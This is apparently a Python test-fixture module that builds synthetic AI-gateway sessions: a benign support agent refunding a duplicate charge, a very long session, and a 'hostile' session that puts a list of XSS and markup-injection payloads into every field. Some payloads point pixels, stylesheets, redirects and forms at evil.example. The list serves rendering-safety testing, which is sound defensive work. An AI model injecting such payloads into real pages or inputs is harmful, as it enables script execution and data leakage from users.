"""Generated sessions in the API's shapes: an ordinary agent's, long ones, and hostile ones."""

import base64
import random
import struct
import zlib
from datetime import UTC, datetime, timedelta
from typing import Any

Json = dict[str, Any]

TITLES = [
    "Refund the duplicate charge on order 88213 and tell the customer",
    "Write a short story about a robot",
    "Migrate the billing tables to partitioned PostgreSQL",
    "hi",
    "Summarise the attached board minutes, then compare with last quarter’s and list what changed",
    "Plan a spring journey through western Europe with two children",
    "Translate the release notes into French, German and Japanese",
    "Why does the nightly export job time out on Mondays?",
]
MODELS = ["claude-sonnet-4-5", "gpt-4o", "gpt-5-codex", "gpt-4o-mini", "gemini-2.5-pro", "mistral-large"]
KEYS = ["support-bot", "ci", "codex", "web", "analyst"]
CLIENTS = ["openai-python", "langchain", "codex", "curl", "litellm"]
SOURCES = ["id", "id", "harness", "content", "response", "none"]

# Each would run, load, leave or break the page where text became markup.
XSS = [
    "<script>window.hacked=1</script>",
    "<img src=x onerror=window.hacked=1>",
    "<svg/onload=window.hacked=1>",
    '"><iframe src="javascript:parent.hacked=1"></iframe>',
    "[click](javascript:window.hacked=1)",
    "![track](https://evil.example/pixel.png?secret=1)",
    "<a href='data:text/html,<script>hacked=1</script>'>x</a>",
    "[x](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGFja2VkPTE8L3NjcmlwdD4=)",
    "</title></textarea></style></script><script>window.hacked=1</script>",
    "{{ 7*7 }} ${7*7} <%= 7*7 %> {% raw %}",
    "<style>@import 'https://evil.example/x.css';body{display:none}</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action=https://evil.example/><button>go</button></form><base href=https://evil.example/>",
    "' onmouseover='window.hacked=1' style='background:url(https://evil.example/y)'",
    "\x1b]8;;https://evil.example/\x07terminal\x1b]8;;\x07 \u202egnp.exe",
    "[a](//evil.example/p) <https://evil.example/auto> ![i](data:image/svg+xml,<svg onload=hacked=1>)",
]


def picture(width: int = 240, height: int = 110) -> str:
    """A PNG as a data: address: lines like those of a receipt."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    def shade(x: int, y: int) -> int:
        inked = y % 16 in (6, 7, 8) and 18 < x < 60 + (y * 37) % 160 and 8 < y < height - 12
        return 120 if inked else 250

    rows = b"".join(b"\0" + bytes(shade(x, y) for x in range(width)) for y in range(height))
    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    png = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")
    return "data:image/png;base64," + base64.b64encode(png).decode()


def iso(at: datetime) -> str:
    return at.isoformat(timespec="milliseconds").replace("+00:00", "Z")


def text(words: str) -> Json:
    return {"type": "text", "text": words}


def said(role: str, *pieces: Json) -> Json:
    return {"role": role, "pieces": list(pieces)}


def session(number: int, at: datetime, **fields: Any) -> Json:
    rng = random.Random(number)
    calls = rng.choice([1, 2, 3, 6, 9, 31, 118])
    tokens = calls * rng.randint(300, 18_000)
    made = {
        "id": f"ses_{number:026d}",
        "session_id": f"session-{number}",
        "source": rng.choice(SOURCES),
        "title": TITLES[number % len(TITLES)],
        "project": "default",
        "status": rng.choice(["ok", "ok", "ok", "ok", "errors", "cut"]),
        "calls": calls,
        "turns": max(1, calls // 2),
        "errors": 0,
        "input_tokens": tokens,
        "cached_tokens": int(tokens * rng.choice([0, 0.12, 0.66, 0.93])),
        "output_tokens": tokens // 18,
        "reasoning_tokens": 0,
        "cost": rng.choice([None, 0.0, 0.00042, 0.0121, 0.412, 3.87, 14.2]),
        "models": rng.sample(MODELS, rng.choice([1, 1, 2])),
        "clients": [rng.choice(CLIENTS)],
        "tags": [],
        "first_at": iso(at - timedelta(seconds=rng.randint(2, 4000))),
        "last_at": iso(at),
        "live": 0,
        "unpriced": 0,
        "active_ms": rng.randint(900, 130_000),
        "keys": [rng.choice(KEYS)],
        "users": [],
    }
    made["errors"] = rng.randint(1, 3) if made["status"] == "errors" else 0
    return made | fields


def call(session_id: str, number: int, turn: int, at: datetime, **fields: Any) -> Json:
    rng = random.Random(number)
    return {
        "id": f"call_{number:026d}",
        "session_id": session_id,
        "source": "id",
        "rule": "metadata.litellm_session_id",
        "parent_id": f"call_{number - 1:026d}" if number % 1000 else None,
        "turn": turn,
        "created_at": iso(at),
        "duration_ms": rng.randint(800, 9000),
        "ttft_ms": rng.randint(200, 700),
        "endpoint": "chat/completions",
        "provider": "anthropic",
        "deployment": "eu-1",
        "model": "claude-sonnet-4-5",
        "upstream_model": "claude-sonnet-4-5-20250929",
        "status": "ok",
        "http_status": 200,
        "stream": True,
        "finish_reason": "stop",
        "input_tokens": 13870,
        "cached_tokens": 11204,
        "output_tokens": 312,
        "reasoning_tokens": 214,
        "estimated": False,
        "cost": 0.0504,
        "error": None,
        "response_id": f"chatcmpl-{number}",
        "client": "openai-python 2.54",
        "user": "",
        "key": "support-bot",
        "agent": "",
        "attempts": [],
    } | fields


def added(made: Json, messages: list[Json], output: Json | None, **fields: Any) -> Json:
    return {"call": made, "resent": 0, "retry": False, "system": [], "messages": messages, "output": output} | fields


def agent_session(now: datetime) -> Json:
    """What a support agent did: tools, reasoning, a failure, a pause, a picture."""
    name = "support-88213"
    start = now - timedelta(minutes=16)

    def at(seconds: float) -> datetime:
        return start + timedelta(seconds=seconds)

    tool = {
        "type": "tool_call",
        "id": "call_a",
        "name": "find_charges",
        "arguments": {"order": 88213, "window_days": 30},
    }
    found = {
        "type": "tool_result",
        "id": "call_a",
        "content": [
            text(
                '{"charges": [{"id": "ch_71", "amount": "49.90 EUR", "at": "2026-11-20T09:14:02Z"}, {"id": "ch_72", "amount": "49.90 EUR", "at": "2026-11-20T09:14:06Z"}], "customer": "Okafor"}'
            )
        ],
    }
    refund = {
        "type": "tool_call",
        "id": "call_b",
        "name": "issue_refund",
        "arguments": {"order": 88213, "capture": "ch_72", "amount": "49.90 EUR", "reason": "duplicate"},
    }
    policy = {"type": "tool_call", "id": "call_c", "name": "read_policy", "arguments": {"topic": "refunds"}}
    refunded = {
        "type": "tool_result",
        "id": "call_b",
        "content": [text('{"status": "refunded", "id": "re_19ac", "at": "2026-11-24T14:03:24Z"}')],
    }
    read = {
        "type": "tool_result",
        "id": "call_c",
        "content": [text("Refunds under 200 EUR need no approval.\nAbove that, ask finance-approvals.")],
    }
    answer = (
        "The duplicate charge of **49.90 EUR** is refunded (`re_19ac`). It reaches the customer’s card in 3–5 working days.\n\n"
        "| charge | at | state |\n|---|---|---|\n| `ch_71` | 09:14:02 | kept |\n| `ch_72` | 09:14:06 | **refunded** |\n\n"
        "Here is the message I would send:\n\n```text\nHello Ms. Okafor,\nwe charged your card twice for order 88213. The second charge has been\nrefunded today. We are sorry for the trouble.\n```\n\n"
        "1. Send it now\n2. Or change the tone first, see [the guide](https://example.com/tone)"
    )
    system = said(
        "system",
        text("You are a careful support agent.\nNever refund more than was charged. Today is 24 November 2026.\n" * 6),
    )
    thought = {
        "type": "reasoning",
        "text": "Two captures, four seconds apart, equal amounts: a **duplicate**. The policy allows it without approval, but I should read it first.",
    }
    calls = [
        added(
            call(name, 1000, 1, at(0), parent_id=None, duration_ms=3100, cost=0.0412, finish_reason="tool_calls", cached_tokens=0),
            [said("user", text("Refund the duplicate charge on order 88213 and tell the customer. The receipt is attached."), {"type": "image", "url": picture(), "media_type": "image/png"}, {"type": "image", "url": "https://cdn.example.com/receipt-88213.png"})],
            said("assistant", thought, tool),
            system=[system],
        ),
        added(call(name, 1001, 1, at(3.6), duration_ms=2100, cost=0.0121), [said("tool", found)], said("assistant", text("I found **two captures four seconds apart** for the same amount:\n\n- `ch_71` at 09:14:02\n- `ch_72` at 09:14:06\n\nShall I refund the second one?")), resent=3),
        added(call(name, 1002, 2, at(72), duration_ms=4400), [said("user", text("Yes, go ahead"))], said("assistant", thought, text("I will read the policy and issue the refund."), policy, refund), resent=5),
        added(call(name, 1003, 2, at(77), duration_ms=4420, cost=0.0504), [said("tool", read), said("tool", refunded)], said("assistant", text(answer)), resent=7),
        added(
            call(name, 1004, 3, at(842), status="upstream_error", http_status=504, duration_ms=30_100, cost=None, ttft_ms=None, finish_reason=None, input_tokens=None, output_tokens=None, cached_tokens=None, reasoning_tokens=None, error={"type": "timeout_error", "message": "The provider did not answer in time."}, attempts=[{"deployment": "eu-1", "status": 504}, {"deployment": "eu-2", "status": 504}]),
            [said("user", text("Send it"))], None, resent=10,
        ),
        added(call(name, 1005, 3, at(880), duration_ms=3900, cost=0.0542), [], said("assistant", text("Done. The message was sent to the customer at 14:16.\n\n> Refunds reach the card in 3–5 working days.")), resent=11, retry=True),
        added(call(name, 1006, 4, at(930), status="client_closed", http_status=200, duration_ms=1200, cost=0.004, finish_reason=None), [said("user", text("Thanks! Now write a summary for the ticket with a code sample of the refund call."))], said("assistant", text("## Summary\n\nThe customer was charged twice; the second charge was refunded.\n\n```python\nclient.refunds.create(charge=\"ch_72\", amount=4990, reason=\"duplicate\")")), resent=12),
    ]  # fmt: skip
    row = session(
        1, now, id="ses_agent", session_id=name, title=TITLES[0], status="errors", errors=1, calls=7, turns=4, cost=0.2323,
        input_tokens=83220, cached_tokens=67224, output_tokens=1872, reasoning_tokens=1284, models=["claude-sonnet-4-5"],
        clients=["openai-python"], keys=["support-bot"], source="id", first_at=calls[0]["call"]["created_at"],
        last_at=iso(now), active_ms=49_000,
    )  # fmt: skip
    return {"session": row, "calls": calls}


def hostile_session(now: datetime) -> Json:
    calls = []
    for i, payload in enumerate(XSS):
        tool = {"type": "tool_call", "id": f"t{i}", "name": payload, "arguments": {payload: [payload, {"a": payload}]}}
        result = {"type": "tool_result", "id": f"t{i}", "content": [text(payload)], "error": True}
        pieces = [
            text(payload),
            {"type": "image", "url": payload},
            {"type": "image", "url": "https://evil.example/a.png"},
            {"type": "file", "url": payload, "name": payload},
            {"type": "other", "value": {payload: payload}},
        ]
        made = call("x", 5000 + i, i + 1, now - timedelta(seconds=len(XSS) - i), model=payload, upstream_model=payload, client=payload, user=payload, error={"type": payload, "message": payload}, provider=payload, agent=payload, finish_reason=payload, rule=payload, source=payload)  # fmt: skip
        calls.append(added(made, [said("user", *pieces) | {"name": payload}, said("tool", result)], said("assistant", text(payload), {"type": "reasoning", "text": payload}, tool), system=[said("system", text(payload))]))  # fmt: skip
    row = session(2, now, id="ses_hostile", session_id=XSS[0], title=" ".join(XSS), models=XSS[:4], clients=XSS[4:6], keys=XSS[6:8], source=XSS[1], tags=XSS[:3], users=XSS[:2])  # fmt: skip
    return {"session": row, "calls": calls}


def huge_session(now: datetime, calls: int = 5000, letters: int = 10_000) -> Json:
    """`calls` calls whose answers have `letters` letters each."""
    words = "The *index* is `built` once; then every **query** reads from it, and nothing is scanned twice. "
    made = []
    for i in range(calls):
        body = f"# Step {i}\n\n" + (words * (letters // len(words) + 1))[:letters]
        at = now - timedelta(seconds=(calls - i) * 20)
        made.append(added(call("huge", 100_000 + i, i // 2 + 1, at), [said("user", text(f"Step {i}, please"))] if i % 2 == 0 else [], said("assistant", text(body)), resent=2 * i))  # fmt: skip
    row = session(3, now, id="ses_huge", session_id="huge", title="Index the whole archive, step by step", calls=calls, turns=calls // 2, status="ok", errors=0)  # fmt: skip
    return {"session": row, "calls": made}


def now() -> datetime:
    return datetime.now(UTC)
